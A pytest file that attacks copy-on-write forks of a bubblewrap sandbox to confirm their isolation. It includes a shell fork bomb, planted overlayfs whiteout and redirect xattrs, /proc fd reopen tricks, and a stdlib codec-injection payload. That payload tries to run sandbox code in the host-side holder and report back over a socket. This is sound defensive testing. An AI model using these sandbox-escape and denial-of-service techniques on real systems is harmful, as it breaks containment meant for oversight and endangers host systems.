"""Attacks on copy-on-write forks of a sealed sandbox (raas.sandbox.cow, holder.py, the
zygote's overlay_on): each test asserts the safe behaviour beside a control, so it fails
where the hole is open."""

from __future__ import annotations

import asyncio
import contextlib
import os
from pathlib import Path

import pytest

from raas.sandbox import BwrapConfig, SandboxError, create_sandbox, procs
from raas.sandbox import bwrap as bwrap_module
from raas.sandbox.bwrap import BwrapSandbox
from tests.sandbox.test_sandbox_cow import LIMITS, bwrap, our_fds, our_processes, started


def started_at(pid: int) -> str | None:
    """When ``pid`` started (its stat's starttime), None where it is gone or a zombie: with the
    pid, which process it is."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return None if fields[0] == "Z" else fields[19]


async def out(sandbox: BwrapSandbox, command: str) -> str:
    result = await sandbox.bash(f"(cd /workspace && {{ {command}\n}})")
    assert result.exit_code == 0, result.output
    return result.output.strip()


async def py(sandbox: BwrapSandbox, code: str) -> str:
    path = "/tmp/attack.py"
    await out(sandbox, f"cat > {path} <<'PYEOF'\n{code}\nPYEOF")
    return await out(sandbox, f"python3 {path}; rm -f {path}")


LISTING = "find /workspace /tmp -path /tmp/attack.py -prune -o ! -name '.raas-*' -print | sort"

# (f) overlayfs' own marks planted as user. xattrs in what becomes the lower: an opaque dir with
# an xattr whiteout (6.7+), a redirect out of the lower, a metacopy, an origin.
PLANT_XATTRS = r"""
import os
os.makedirs('/workspace/xw', exist_ok=True)
open('/workspace/xw/gone', 'w').write('g\n')
open('/workspace/xw/kept', 'w').write('k\n')
os.setxattr('/workspace/xw', 'user.overlay.opaque', b'x')
os.setxattr('/workspace/xw/gone', 'user.overlay.whiteout', b'')
os.makedirs('/workspace/red', exist_ok=True)
open('/workspace/red/own', 'w').write('o\n')
os.setxattr('/workspace/red', 'user.overlay.redirect', b'/tmp/cache')
os.makedirs('/tmp/cache', exist_ok=True)
open('/tmp/cache/x', 'w').write('c\n')
open('/workspace/meta', 'w').write('m\n')
os.setxattr('/workspace/meta', 'user.overlay.metacopy', b'')
os.setxattr('/workspace/meta', 'user.overlay.redirect', b'/red/own')
os.makedirs('/workspace/op/sub', exist_ok=True)
open('/workspace/op/sub/f', 'w').write('f\n')
os.setxattr('/workspace/op', 'user.overlay.opaque', b'y')
print('planted')
"""


# Known, left open: overlayfs reads its own marks (user.overlay.*, with `userxattr`) in the
# lower, and a metacopy mark makes the file read as EPERM in every fork of the seal alike (a
# sibling gains nothing over another; the policy or task changes only its own forks' view).
# Stripping them at the seal means walking the sealed tree from the host: not built yet.
METACOPY = pytest.mark.xfail(
    strict=True, reason="a planted user.overlay.metacopy mark reads as EPERM in the forks"
)


@METACOPY
async def test_overlay_xattrs_planted_in_the_template_change_nothing_a_fork_sees() -> None:
    async with started(bwrap()) as parent:
        assert await py(parent, PLANT_XATTRS) == "planted"
        before = await out(parent, LISTING)
        contents = "cat xw/gone xw/kept red/own meta op/sub/f; ls red"
        seen = await out(parent, contents)
        assert await parent.seal()
        async with started(await parent.fork()) as a:
            # Control: a fork sees the files; attack: the marks hide, redirect or merge nothing.
            assert await out(a, LISTING) == before
            assert await out(a, contents) == seen
            # The marks themselves are not readable or writable through the fork's overlay.
            got = await a.bash("python3 -c \"import os; print(os.listxattr('/workspace/xw'))\"")
            assert "user.overlay" not in got.output
            await out(a, "echo w > xw/new && rm xw/kept && echo n > red/own2")
            async with started(await parent.fork()) as b:
                assert await out(b, LISTING) == before


# (a) a lock, a pipe or a socket on a lower file, taken in one fork, seen from a sibling.
LOCK_HOLD = r"""
import fcntl, os, sys, time
if os.fork():
    sys.exit(0)
os.setsid()
f = open('/workspace/lockme', 'r')
fcntl.flock(f, fcntl.LOCK_EX)
g = open('/workspace/posix', 'r+')
fcntl.lockf(g, fcntl.LOCK_EX)
p = os.open('/tmp/fifo', os.O_RDWR)
os.write(p, b'leak')
open('/tmp/held-ready', 'w').write('1')
while True:
    time.sleep(3600)
"""
LOCK_TRY = r"""
import fcntl, os
f = open('/workspace/lockme', 'r')
try:
    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB); print('flock-free')
except OSError:
    print('flock-held')
g = open('/workspace/posix', 'r+')
try:
    fcntl.lockf(g, fcntl.LOCK_EX | fcntl.LOCK_NB); print('posix-free')
except OSError:
    print('posix-held')
p = os.open('/tmp/fifo', os.O_RDONLY | os.O_NONBLOCK)
try:
    print('fifo', os.read(p, 16) or b'empty')
except BlockingIOError:
    print('fifo', b'empty')
"""


async def test_locks_and_fifos_on_lower_files_are_a_forks_own() -> None:
    async with started(bwrap()) as parent:
        await out(parent, "echo l > lockme && echo p > posix && mkfifo /tmp/fifo")
        assert await parent.seal()
        async with started(await parent.fork()) as a, started(await parent.fork()) as b:
            await py(a, LOCK_HOLD)
            await out(a, "until [ -e /tmp/held-ready ]; do :; done")
            # Control: in a itself, the lock is held (a second open file of it) and the fifo
            # has a's bytes; from b, a sibling, none of it.
            flock_in_a = await a.bash("flock -n -x /workspace/lockme true; echo $?")
            assert flock_in_a.output.strip().endswith("1")
            assert (await py(b, LOCK_TRY)).splitlines() == [
                "flock-free", "posix-free", "fifo b'empty'",
            ]  # fmt: skip


# (d) the holder's drop_own of /tmp/.raas-* must follow no link of the sandbox's.
async def test_the_holder_follows_no_link_planted_as_a_raas_scratch_file() -> None:
    async with started(bwrap()) as parent:
        await out(
            parent,
            "mkdir -p repo && echo v > repo/f && ln -s /workspace /tmp/.raas-ws"
            " && mkdir /tmp/.raas-d && ln -s /workspace/repo /tmp/.raas-d/l"
            " && ln -s /workspace/repo/f /tmp/.raas-d/f && ln /tmp/.raas-d /tmp/x 2>/dev/null;"
            " mkdir -p /tmp/keep && echo k > /tmp/keep/k",
        )
        assert await parent.seal()
        async with started(await parent.fork()) as a:
            assert await out(a, "cat repo/f /tmp/keep/k") == "v\nk"
            assert await out(a, "ls -A /tmp | grep -c '^.raas-ws$\\|^.raas-d$' || true") == "0"


# (d)/(e) a .raas- file planted again after the holder's drop_own, before the kill: its
# docstring says a fork sees none of the sealed server's .raas- files in /tmp.
async def test_a_raas_scratch_file_replanted_after_drop_own_is_not_in_a_fork(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The first seal of a raas process (its trial fork runs between the holder's drop_own and
    # the kill): the widest window, where the loop below replants at once.
    monkeypatch.setattr(bwrap_module, "_overlays_work", None)
    async with started(bwrap()) as parent:
        await out(
            parent,
            "setsid sh -c 'while :; do [ -e /tmp/.raas-planted ] || echo p > /tmp/.raas-planted;"
            " done' >/dev/null 2>&1 </dev/null & until [ -e /tmp/.raas-planted ]; do :; done",
        )
        assert await parent.seal()
        async with started(await parent.fork()) as a:
            assert await out(a, "echo ok") == "ok"  # control
            assert await out(a, "ls -A /tmp | grep -c '^.raas-planted$' || true") == "0"


# (d) a scratch tree deeper than Python recurses: sealed all the same (the holder walks no
# tree), each fork's init drops it from its own view (rm -rf walks without recursion), and
# nothing is left once the sandbox and its fork are closed.
async def test_a_deep_raas_scratch_tree_leaves_the_sandbox_live_or_sealed_never_broken() -> None:
    before = our_processes()
    async with started(bwrap()) as parent:
        await out(parent, "echo v > f")
        await py(
            parent,
            "import os\nos.chdir('/tmp')\nos.mkdir('.raas-deep'); os.chdir('.raas-deep')\n"
            "for i in range(3000):\n    os.mkdir('d'); os.chdir('d')\nprint('deep')",
        )
        assert await parent.seal()
        async with started(await parent.fork()) as a:
            assert await out(a, "cat f") == "v"  # the control
            assert await out(a, "ls -A /tmp | grep -c '^.raas-deep$' || true") == "0"
    assert our_processes() <= before, "a holder or a sandbox's process was left"


# (e) a fork bomb racing the seal's kill; a process writing through a MAP_SHARED mapping.
async def test_a_fork_bomb_and_an_mmap_writer_do_not_outlive_the_seal() -> None:
    async with started(bwrap()) as parent:
        await py(
            parent,
            "import mmap, os, sys\nif os.fork(): sys.exit(0)\nos.setsid()\n"
            "fd = os.open('/workspace/mapped', os.O_RDWR | os.O_CREAT)\nos.ftruncate(fd, 4096)\n"
            "m = mmap.mmap(fd, 4096, mmap.MAP_SHARED)\nopen('/tmp/m-ready','w').close()\n"
            "i = 0\nwhile True:\n    i += 1\n    m[0:16] = b'%016d' % i\n",
        )
        await out(parent, "until [ -e /tmp/m-ready ]; do :; done")
        await out(
            parent,
            # The wait forks nothing (a glob into an array): the bomb may take every PID left.
            "setsid sh -c 'b() { b & b & wait; }; b' >/dev/null 2>&1 </dev/null &"
            " until p=(/proc/[0-9]*); (( ${#p[@]} > 30 )); do :; done",
        )
        pids = {(p, started_at(p)) for p in parent.host_pids()}
        try:
            sealed = await parent.seal()
        except SandboxError:  # refused, the sandbox left as it was (the bomb may starve it)
            sealed = False
        if sealed:  # (a pid the kernel gave to another process since is not the same process)
            lives = {p for p, at in pids if at is not None and started_at(p) == at}
            assert not lives, "a process of the sealed sandbox lives"
            assert parent.host_pids() == set()
            async with started(await parent.fork()) as a:
                first = await out(a, "head -c 16 mapped")
                await out(a, "head -c 30M /dev/zero > filler && rm filler")
                async with started(await parent.fork()) as b:
                    assert await out(b, "head -c 16 mapped") == first
                    assert await out(a, "head -c 16 mapped") == first


# (h) the holder killed while forks live: they go on, a new fork fails cleanly, nothing leaks.
async def test_a_killed_holder_leaves_forks_working_and_new_forks_refused_cleanly() -> None:
    async with started(bwrap()):
        pass
    before_fds, before_processes = our_fds(), our_processes()
    parent = bwrap()
    async with started(parent):
        await out(parent, "echo v > f")
        assert await parent.seal()
        assert parent._sealed is not None
        holder = parent._sealed.held.process
        async with started(await parent.fork()) as a:
            holder.kill()
            holder.wait()
            assert await out(a, "cat f; echo w > g; cat g") == "v\nw"  # control
            with pytest.raises(SandboxError):
                await asyncio.wait_for(parent.fork(), 60)
            assert await out(a, "cat f") == "v"
    assert our_processes() <= before_processes
    assert our_fds() <= before_fds, [
        os.readlink(f"/proc/self/fd/{f}") for f in our_fds() - before_fds
    ]


# (h) many forks opened and closed: no fd, holder or mount of raas's left.
async def test_many_forks_and_seals_leave_nothing_behind() -> None:
    async with started(bwrap()):
        pass
    before_fds, before_processes = our_fds(), our_processes()
    mounts_before = len(Path("/proc/self/mountinfo").read_text().splitlines())
    for _ in range(2):
        async with started(bwrap()) as parent:
            await out(parent, "echo v > f")
            assert await parent.seal()
            for _ in range(3):
                async with started(await parent.fork()) as a:
                    assert await out(a, "cat f") == "v"
                    assert await a.seal()  # a fork of a fork, sealed, then closed with it
                    async with started(await a.fork()) as aa:
                        assert await out(aa, "cat f") == "v"
    assert our_processes() <= before_processes
    assert our_fds() <= before_fds, [
        os.readlink(f"/proc/self/fd/{f}") for f in our_fds() - before_fds
    ]
    assert len(Path("/proc/self/mountinfo").read_text().splitlines()) == mounts_before


# (d) the holder runs raas's Python after setns into the sandbox's mount namespace: any file
# its interpreter opens by path from then on is the sandbox's. An uncaught error there (a
# /tmp/.raas- tree deeper than shutil.rmtree's recursion) prints a traceback, which opens the
# frames' source files by their paths and looks up their coding cookie's codec: an import.
# Where the sandbox can write the path of raas's stdlib (a tmpfs_dirs top-level directory over
# it: here /root, as raas's Python lives in /root/.pyenv on this host), its code runs in the
# holder, in the host's network and PID namespaces.
PAYLOAD = r"""
import os, socket, sys
if not os.environ.get('RAAS_PWNED'):  # once, though each frame's display imports it again
    os.environ['RAAS_PWNED'] = '1'
    try:
        s = socket.socket()
        s.connect(('127.0.0.1', {port}))
        try:  # may it signal raas's own process (and so any of raas's uid on the host)?
            os.kill(os.getppid(), 0)
            kill = b'can signal raas (host pid %d)' % os.getppid()
        except OSError as e:
            kill = str(e).encode()
        s.sendall(b'pwned: pid=%d uid=%d %s' % (os.getpid(), os.getuid(), kill))
        s.close()
    except OSError:
        pass
"""


async def test_the_holder_runs_no_code_of_the_sandbox_after_joining_its_namespace() -> None:
    import socket
    import sys
    import sysconfig

    stdlib = sysconfig.get_paths()["stdlib"]  # the holder's: same interpreter as raas
    top = "/" + stdlib.strip("/").split("/")[0]
    if top.removeprefix("/") in {"usr", "tmp", "workspace", "etc", "proc", "dev", "sys"}:
        pytest.skip(f"raas's stdlib ({stdlib}) lies under no directory a config can make a tmpfs")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    config = BwrapConfig(limits=LIMITS, tmpfs_dirs=(top,))
    sandbox = create_sandbox(config)
    assert isinstance(sandbox, BwrapSandbox)
    plant = (
        f"import os\nstd = {stdlib!r}\nos.makedirs(std + '/encodings', exist_ok=True)\n"
        "open(std + '/shutil.py', 'w').write('# -*- coding: rootpwn -*-\\n')\n"
        f"open(std + '/encodings/rootpwn.py', 'w').write({PAYLOAD.format(port=port)!r})\n"
        "os.chdir('/tmp'); os.mkdir('.raas-deep'); os.chdir('.raas-deep')\n"
        f"for i in range({sys.getrecursionlimit() * 2}):\n    os.mkdir('d'); os.chdir('d')\n"
        "print('planted')"
    )
    try:
        async with started(sandbox):
            await out(sandbox, "echo v > f")  # control: the sandbox works
            assert await py(sandbox, plant) == "planted"
            sealed = await sandbox.seal()
            got = b""
            with contextlib.suppress(TimeoutError, OSError):
                conn, _ = listener.accept()
                conn.settimeout(5)
                got = conn.recv(200)
                conn.close()
            assert not got, f"the sandbox's code ran in the holder, on the host's network: {got!r}"
            if not sealed:  # control: not sealed, still live
                assert await out(sandbox, "cat f") == "v"
    finally:
        listener.close()


# (a)/(b) a lower file reached for writing by other ways than a plain open: reopened through
# /proc/self/fd after its delete, a read-only shared mapping made writable, its xattrs and
# times changed. Control: a sees its own change (where the kernel allows one); b never does.
REOPEN = r"""
import mmap, os
fd = os.open('/workspace/victim', os.O_RDONLY)
os.unlink('/workspace/victim')
try:
    w = os.open('/proc/self/fd/%d' % fd, os.O_WRONLY | os.O_APPEND)
    os.write(w, b'evil\n'); print('reopen-wrote')
except OSError as e:
    print('reopen-refused', e.errno)
os.setxattr('/workspace/x', 'user.evil', b'1')
os.utime('/workspace/x', (0, 0))
os.chmod('/workspace/x', 0o777)
print(os.stat('/workspace/x').st_mtime)
"""


async def test_no_back_door_to_write_a_lower_file_reaches_a_sibling() -> None:
    async with started(bwrap()) as parent:
        await out(parent, "echo v > victim && echo m > mapped && echo x > x && chmod 644 x")
        assert await parent.seal()
        async with started(await parent.fork()) as a, started(await parent.fork()) as b:
            seen = (await py(a, REOPEN)).splitlines()
            assert seen[-1] == "0.0"  # control: a's own change
            mprotect = await a.bash(
                "python3 -c \"import mmap, os; m = mmap.mmap(os.open('/workspace/mapped',"
                " os.O_RDONLY), 0, mmap.MAP_SHARED, mmap.PROT_READ); m[0:1] = b'E'\"; echo $?"
            )
            assert mprotect.output.strip().splitlines()[-1] != "0", mprotect.output
            got = await py(
                b,
                "import os\nprint(open('/workspace/victim').read().strip())\n"
                "print(open('/workspace/mapped').read().strip())\n"
                "print(os.listxattr('/workspace/x'), oct(os.stat('/workspace/x').st_mode & 0o777),"
                " os.stat('/workspace/x').st_mtime > 0)",
            )
            assert got.splitlines() == ["v", "m", "[] 0o644 True"]


# (b)/(f) overlayfs' marks set by a fork through its own overlay (the kernel lets it: the
# user.overlay. names are a plain xattr of its upper's), then the fork sealed: its own forks'
# overlays (over its overlay) see what it saw, no file hidden, redirected or refused.
PLANT_IN_FORK = PLANT_XATTRS.replace("/tmp/cache", "/workspace/cache2")


@METACOPY
async def test_overlay_marks_a_fork_plants_change_nothing_the_forks_of_its_seal_see() -> None:
    async with started(bwrap()) as parent:
        await out(parent, "mkdir d && echo f > d/f")
        assert await parent.seal()
        async with started(await parent.fork()) as a:
            assert await py(a, PLANT_IN_FORK) == "planted"
            before = await out(a, LISTING)
            contents = "cd /workspace; cat d/f xw/gone xw/kept red/own op/sub/f; ls red; cat meta"
            seen = (await a.bash(contents)).output  # "cat: meta: Operation not permitted"
            assert await a.seal()
            async with started(await a.fork()) as aa:
                assert await out(aa, LISTING) == before
                assert (await aa.bash(contents)).output == seen


# (e) a stopped process and a ptrace-stopped one (a child stopped by its tracer) at the seal.
async def test_stopped_and_traced_processes_do_not_outlive_the_seal() -> None:
    async with started(bwrap()) as parent:
        await out(parent, "echo v > f")
        await out(
            parent,
            "setsid sh -c 'while :; do echo s >> /workspace/stopped; done'"
            " </dev/null >/dev/null 2>&1 & p=$!; kill -STOP $p; echo $p > /tmp/p",
        )
        traced = await py(
            parent,
            "import ctypes, os, signal, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "if os.fork():\n    sys.exit(0)\nos.setsid()\npid = os.fork()\nif pid == 0:\n"
            "    libc.ptrace(0, 0, 0, 0)\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
            "    while True:\n        open('/workspace/traced', 'a').write('t')\n"
            "os.waitpid(pid, os.WUNTRACED)\nopen('/tmp/traced-ready', 'w').close()\n"
            "import time\nwhile True:\n    time.sleep(3600)\n",
        )
        assert traced == ""
        await out(parent, "until [ -e /tmp/traced-ready ]; do :; done")
        pids = parent.host_pids()
        assert len(pids) >= 4
        assert await parent.seal()
        assert not {p for p in pids if procs.alive(p)}
        async with started(await parent.fork()) as a:
            first = await out(a, "stat -c %s stopped; ls")
            async with started(await parent.fork()) as b:
                assert await out(b, "stat -c %s stopped; ls") == first


# (f) the agentic snapshot's path (tasks/agentic.py keep_snapshot): the policy's live sandbox
# forked (a copy), the copy sealed, branches forked from it. Marks the policy planted in its
# own workspace must not change what a branch sees of it.
@METACOPY
async def test_marks_planted_by_the_policy_change_nothing_its_snapshots_branches_see() -> None:
    async with started(bwrap()) as live:
        assert await py(live, PLANT_XATTRS) == "planted"
        contents = "cd /workspace; cat xw/gone xw/kept red/own op/sub/f; ls red; cat meta"
        seen = (await live.bash(contents)).output
        before = await out(live, LISTING)
        async with started(await live.fork()) as snapshot:
            assert await snapshot.seal()
            async with started(await snapshot.fork()) as branch:
                assert await out(branch, LISTING) == before  # control
                assert (await branch.bash(contents)).output == seen
